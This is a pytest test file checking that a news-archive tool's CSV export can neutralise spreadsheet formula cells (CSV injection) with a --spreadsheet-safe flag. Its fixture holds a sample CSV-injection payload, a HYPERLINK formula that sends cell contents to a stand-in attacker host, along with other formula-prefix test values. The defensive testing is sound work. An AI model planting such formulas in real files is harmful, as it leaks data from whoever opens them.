"""`dateline export --format csv` and cells a spreadsheet would run as formulas (CSV injection): exact
values by default (CSV is data interchange), neutralised on request with --spreadsheet-safe."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from click.testing import CliRunner, Result

from dateline import Archive, Article
from dateline.cli import main

BODY = "The council approved the new budget on Tuesday, after a long debate about schools and roads."
HOSTILE = '=HYPERLINK("http://evil.example/?d="&A1,"Open")'


@pytest.fixture(scope="module")
def db(tmp_path_factory: pytest.TempPathFactory) -> Path:
    path = tmp_path_factory.mktemp("csv") / "a.db"
    with Archive(path) as archive:
        archive.add(Article(url="https://a.example/1", title=HOSTILE, authors=("@admin", "Ana Lima"),
                            tags=("-2+3", "budget"), description="\tcmd", body=BODY))
        archive.add(Article(url="https://a.example/2", title="+5 % for schools", body="-" + BODY))
        archive.add(Article(url="https://a.example/3", title="A plain title", body=BODY + " Again."))
    return path


def _export(db: Path, *args: str) -> Result:
    return CliRunner().invoke(main, ["export", *args, "-"], env={"DATELINE_DB": str(db)}, catch_exceptions=False)


def _rows(done: Result) -> dict[str, dict[str, str]]:
    return {row["url"]: row for row in csv.DictReader(io.StringIO(done.stdout))}


def test_csv_keeps_every_value_exact_by_default(db: Path) -> None:
    rows = _rows(_export(db, "--format", "csv"))
    first = rows["https://a.example/1"]
    assert (first["title"], first["authors"], first["tags"], first["description"]) == (
        HOSTILE, "@admin; Ana Lima", "-2+3; budget", "\tcmd")
    assert rows["https://a.example/2"]["body"] == "-" + BODY


def test_spreadsheet_safe_csv_quotes_every_formula_prefix(db: Path) -> None:
    done = _export(db, "--format", "csv", "--spreadsheet-safe")
    assert done.exit_code == 0, done.output
    rows = _rows(done)
    first, second, plain = rows["https://a.example/1"], rows["https://a.example/2"], rows["https://a.example/3"]
    assert (first["title"], first["authors"], first["tags"], first["description"]) == (
        "'" + HOSTILE, "'@admin; Ana Lima", "'-2+3; budget", "'\tcmd")
    assert (second["title"], second["body"]) == ("'+5 % for schools", "'-" + BODY)
    assert plain["title"] == "A plain title" and plain["url"] == "https://a.example/3"
    assert not any(v[:1] in ("=", "+", "-", "@", "\t", "\r") for row in rows.values() for v in row.values())


def test_spreadsheet_safe_is_refused_for_other_formats(db: Path) -> None:
    done = _export(db, "--format", "jsonl", "--spreadsheet-safe")
    assert done.exit_code == 2 and "--spreadsheet-safe" in done.stderr and "csv" in done.stderr
